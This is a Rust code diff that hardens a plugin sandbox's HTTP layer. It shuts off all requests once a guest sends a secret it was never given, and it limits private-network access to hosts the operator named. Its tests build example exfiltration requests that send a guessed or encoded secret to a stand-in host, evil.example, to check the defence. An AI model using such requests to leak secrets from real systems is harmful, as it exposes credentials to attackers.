@@ -64,6 +64,9 @@ pub struct HttpCapability {
     bucket: Mutex<TokenBucket>,
     concurrency: Arc<Semaphore>,
     in_flight: Arc<InFlight>,
+    /// Set once the guest has sent a secret value it was never given: from then on the
+    /// run makes no request (see `Call::refuse_known_secrets`).
+    closed: std::sync::atomic::AtomicBool,
 }
 
 /// A request's URL and whose text it is: the guest's own is handed back verbatim, one a
@@ -134,6 +137,7 @@ impl HttpCapability {
                 limit: limits.max_in_flight_bytes,
                 used: AtomicU64::new(0),
             }),
+            closed: Default::default(),
         }
     }
 }
@@ -308,8 +312,36 @@ impl<'a> Call<'a> {
         HttpError::RateLimited(what.to_string())
     }
 
+    /// A guest never holds a secret value, so one in its own request text (URL, header
+    /// templates, body: in any form the redactor knows) is a guess or a leak. Refusing
+    /// just that request would confirm the guess; instead the run's HTTP closes for
+    /// good, so a guest learns at most one bit per run, loudly.
+    fn refuse_known_secrets(&self, req: &Request) -> Result<(), HttpError> {
+        use std::sync::atomic::Ordering;
+        let http = &self.run.http;
+        let r = &self.run.redactor;
+        let carries = !r.is_empty()
+            && (!r.find(req.url.as_bytes()).is_empty()
+                || req.headers.iter().any(|(k, v)| {
+                    !r.find(k.as_bytes()).is_empty() || !r.find(v.as_bytes()).is_empty()
+                })
+                || req.body.as_ref().is_some_and(|b| !r.find(b).is_empty()));
+        if carries && !http.closed.swap(true, Ordering::SeqCst) {
+            let rule = "the plugin sent a secret value it was never given; HTTP is closed for the rest of this run";
+            self.record(&self.run.stats.denials, "http", "request", rule);
+        }
+        if http.closed.load(Ordering::SeqCst) {
+            return Err(HttpError::Denied(
+                "HTTP is closed for this run: the plugin sent a secret value it was never given"
+                    .into(),
+            ));
+        }
+        Ok(())
+    }
+
     /// Every hop checked and sent until a response that is not a redirect.
     async fn fetch_head(&self, req: &Request) -> Result<Head, HttpError> {
+        self.refuse_known_secrets(req)?;
         let mut method = parse_method(&req.method)?;
         let headers = guest_headers(&req.headers)?;
         let mut target = Target {
@@ -531,11 +563,17 @@ impl<'a> Call<'a> {
             _ => None,
         };
         let Some(range) = range else { return Ok(()) };
-        if allowing.iter().any(|r| names_host(Some(r), host)) {
+        // The allowing rule must name the host itself, and the name must be the
+        // operator's: their policy's rule, or a URL they wrote in the instance's config.
+        // A plugin's own manifest never opens loopback or the metadata service.
+        let written = format!("{host}:{}", url.port_or_known_default().unwrap_or(0));
+        let operators =
+            self.run.grant.operator.is_some() || self.run.operator_hosts.contains(&written);
+        if operators && allowing.iter().any(|r| names_host(Some(r), host)) {
             return Ok(());
         }
         let rule = format!(
-            "{host} is a {range} address; allowPrivateNetworks is false and the allowing rule does not name {host} itself"
+            "{host} is a {range} address; allowPrivateNetworks is false and no rule of the operator's names {host} itself"
         );
         Err(self.deny(action, &self.shown(target), &self.shown_text(target, &rule)))
     }
@@ -965,6 +1003,12 @@ mod tests {
             config,
             secret_fields: BTreeSet::from(["token".to_string()]),
             mapped_types: BTreeSet::new(),
+            // The operator wrote `base` in the config.
+            operator_hosts: Url::parse(base)
+                .ok()
+                .and_then(|u| Some(format!("{}:{}", u.host_str()?, u.port_or_known_default()?)))
+                .into_iter()
+                .collect(),
             graph: Default::default(),
             log: LogSink::default(),
             stats: RunStats::default(),
@@ -1179,26 +1223,38 @@ mod tests {
     }
 
     #[tokio::test]
-    async fn the_guests_own_text_comes_back_verbatim_and_is_scrubbed_in_records() {
+    async fn the_guests_own_text_comes_back_verbatim_and_a_secret_closes_http() {
         let (server, mut ctx) = sim().await;
-        // A guest that guessed the secret learns nothing from the answer...
-        let guess = format!("https://evil.example/?guess={SECRET}");
-        let err = Host::fetch(&mut ctx, get(guess.clone())).await.unwrap_err();
+        // A wrong guess comes back as the guest wrote it...
+        let wrong = "https://evil.example/?guess=not-the-secret";
+        let err = Host::fetch(&mut ctx, get(wrong.into())).await.unwrap_err();
         assert!(
-            matches!(&err, HttpError::Denied(m) if m.starts_with(&format!("http:GET {guess} denied"))),
+            matches!(&err, HttpError::Denied(m) if m.starts_with(&format!("http:GET {wrong} denied"))),
             "{err:?}"
         );
         let mut req = get(format!("{}/api/items", server.origin()));
-        req.headers.push((SECRET.into(), "x".into()));
+        req.headers.push(("bad header".into(), "x".into()));
         let err = Host::fetch(&mut ctx, req).await.unwrap_err();
         assert!(
-            matches!(&err, HttpError::Invalid(m) if m.contains(SECRET)),
+            matches!(&err, HttpError::Invalid(m) if m.contains("bad header")),
             "{err:?}"
         );
-        // ...and what the host wrote holds no secret.
+        // ...the right one, in any spelling, closes the run's HTTP: never `[REDACTED]`.
+        let encoded = SECRET.replace('-', "%2D");
+        let guess = format!("https://evil.example/?guess={encoded}");
+        let closed =
+            "HTTP is closed for this run: the plugin sent a secret value it was never given";
+        for req in [get(guess), get(format!("{}/api/items", server.origin()))] {
+            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            assert!(
+                matches!(&err, HttpError::Denied(m) if m == closed),
+                "{err:?}"
+            );
+        }
+        assert!(server.requests().is_empty());
         let records = host_records(&ctx.run);
         assert!(
-            records.contains("evil.example/?guess=[REDACTED]"),
+            records.contains("HTTP is closed for the rest of this run"),
             "{records}"
         );
         assert_clean(&records);
